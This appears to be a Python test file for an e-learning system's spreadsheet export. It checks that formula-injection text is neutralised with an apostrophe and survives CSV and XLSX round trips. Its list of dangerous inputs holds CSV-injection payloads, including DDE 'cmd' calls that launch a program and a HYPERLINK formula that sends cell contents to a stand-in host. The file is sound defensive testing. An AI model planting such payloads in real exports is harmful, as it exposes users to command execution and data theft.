"""What a spreadsheet would run comes out harmless and comes back unchanged."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from elearn.spreadsheet.csv_writing import write_csv
from elearn.spreadsheet.formula_safety import guarded, unguarded
from elearn.spreadsheet.reading import read_table
from elearn.spreadsheet.table import Table
from elearn.spreadsheet.xlsx_writing import Column, Sheet, write_xlsx

# After the "CSV Injection" page of OWASP, the payload lists that go around, and texts people really type.
DANGEROUS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://contoh.example?x="&A1,"Klik")',
    "+62812345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(1)",
    "\uff0d1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u200d=1+1",
    "\u202e=1+1",
    "'=1+1",
    "''=1+1",
    "=",
    "@",
    "%0A-3+3",
)
HARMLESS = (
    "Siti Rahmawati",
    "-",
    "'Aisyah",
    "Nur'aini",
    "O'Neil",
    "I Made",
    "a=b",
    "",
    "'",
    "199001012015051001",
)


@pytest.mark.parametrize("text", DANGEROUS[:-1])
def test_text_that_would_run_stands_behind_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet="'=+-@\t\r\n \u200b\uff1dab1", max_size=8) | st.text(max_size=20))
def test_every_text_comes_back_and_none_runs(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in ("=", "+", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff20")


@pytest.mark.parametrize("text", (*DANGEROUS, *HARMLESS, "_x0041_", "a\x01b", "<b>&amp;\"'</b>"))
def test_a_csv_file_written_here_gives_the_original_back(text: str) -> None:
    out = io.BytesIO()

    write_csv([("nama", "unit"), (text, "x")], out)

    assert cells_of(out) == [text, "x"]


@pytest.mark.parametrize(
    "text", (*DANGEROUS, *HARMLESS, "_x0041_", "a\x01b", "\x00x", "\r\n", "<b>&amp;\"'</b>")
)
def test_a_workbook_written_here_gives_the_original_back(text: str) -> None:
    out = io.BytesIO()

    write_xlsx([Sheet(name="a", columns=[Column(title=name) for name in "ab"], rows=[(text, "x")])], out)

    assert cells_of(out) == [text, "x"]


def cells_of(out: io.BytesIO) -> list[str]:
    table = read_table("pegawai", out.getvalue())
    assert isinstance(table, Table)
    assert not any(cell.is_formula or cell.is_number for cell in table.rows[0].cells)
    return [cell.text for cell in table.rows[0].cells]
